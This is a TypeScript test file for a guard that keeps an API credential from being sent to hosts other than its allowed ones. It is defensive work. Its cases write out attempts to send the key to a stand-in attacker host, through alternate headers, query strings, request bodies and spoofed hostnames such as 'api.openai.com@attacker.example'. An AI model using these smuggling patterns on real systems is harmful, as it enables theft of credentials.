import { describe, expect, it } from "vitest";
import { keepSecretsAtHome } from "./keep-secrets-at-home";
import { inMemoryPorts } from "./testing/in-memory-ports";

const key = "sk-home-1234567";
const secret = { type: "password", label: "Key" } as const;
const otherHosts = { type: "string", label: "Other hosts", optional: true } as const;

/** What a node with this credential may send, and where it went. */
function world(secrets: Record<string, string> = {}, hosts: readonly string[] = ["api.openai.com", "*.azure.com"]) {
  const went: string[] = [];
  const { tools } = inMemoryPorts({
    tools: {
      fetch: async (input) => {
        went.push(new URL(input instanceof Request ? input.url : String(input)).hostname);
        return new Response("ok");
      },
      isOwnHost: ({ hostname }) => hostname === "models.internal",
    },
  });
  const credential = { hosts, fields: { apiKey: secret, otherHosts } };
  return { went, ...keepSecretsAtHome(tools, { label: "Model", credential, secrets: { apiKey: key, ...secrets } }) };
}

const bearer = { headers: { authorization: `Bearer ${key}` } };

describe("a secret", () => {
  it.each([
    "https://api.openai.com/v1/chat",
    "https://API.openai.com/v1/chat",
    "https://mine.azure.com/x",
    "https://models.internal:8443/v1",
  ])("goes to its own hosts and to the operator's (%s)", async (url) => {
    const { fetch, went } = world();
    await fetch(url, bearer);
    expect(went).toHaveLength(1);
  });

  it.each([
    "https://attacker.example/v1",
    "https://api.openai.com.attacker.example/v1",
    "https://api.openai.com@attacker.example/v1",
    "https://attackerazure.com/v1",
    "https://azure.com/v1",
    "https://attacker.example/?api.openai.com",
  ])("goes nowhere else (%s)", async (url) => {
    const { fetch, went } = world();
    await expect(fetch(url, bearer)).rejects.toMatchObject({
      code: "forbidden",
      message: expect.stringMatching(
        /^The credential of “Model” may be sent to api\.openai\.com and \*\.azure\.com only.*“Other hosts”\.$/,
      ),
    });
    expect(went).toEqual([]);
  });

  const away = "https://attacker.example/v1";
  it.each<[string, Parameters<typeof fetch>]>([
    ["a header of another name", [away, { headers: { "x-goog-api-key": key } }]],
    ["Basic authentication", [away, { headers: { authorization: `Basic ${btoa(`user:${key}`)}` } }]],
    ["the address", [`${away}?key=${key}`]],
    ["an escaped address", [`${away}?key=${key.replace("-", "%2D")}`]],
    ["a text", [away, { method: "POST", body: JSON.stringify({ key }) }]],
    ["a form", [away, { method: "POST", body: new URLSearchParams({ key }) }]],
    ["bytes", [away, { method: "POST", body: new TextEncoder().encode(key) }]],
    ["a request of its own", [new Request(away, bearer)]],
    ["the body of a request", [new Request(away, { method: "POST", body: key })]],
  ])("is found in %s", async (_where, given) => {
    const { fetch, went } = world();
    await expect(fetch(...given)).rejects.toMatchObject({ code: "forbidden" });
    expect(went).toEqual([]);
  });

  it("also goes where its owner said, which no pattern can make to be everywhere", async () => {
    for (const typed of ["llm.example.com", " https://LLM.example.com/v1, other.example", "*.example.com"])
      await expect(world({ otherHosts: typed }).fetch("https://llm.example.com/v1", bearer)).resolves.toBeDefined();
    for (const typed of ["*", "*.com", "com", "*.*", "example.com", ""])
      await expect(world({ otherHosts: typed }).fetch("https://llm.example.com/v1", bearer)).rejects.toThrow("only");
  });

  it("of a type without hosts goes where its node points", async () => {
    await expect(world({}, []).fetch("https://anywhere.example/v1", bearer)).resolves.toBeDefined();
  });
});

it("requests without the secret go anywhere", async () => {
  const { fetch, went } = world();
  await fetch("https://files.example/picture.png", { headers: { accept: "image/*" } });
  expect(went).toEqual(["files.example"]);
});
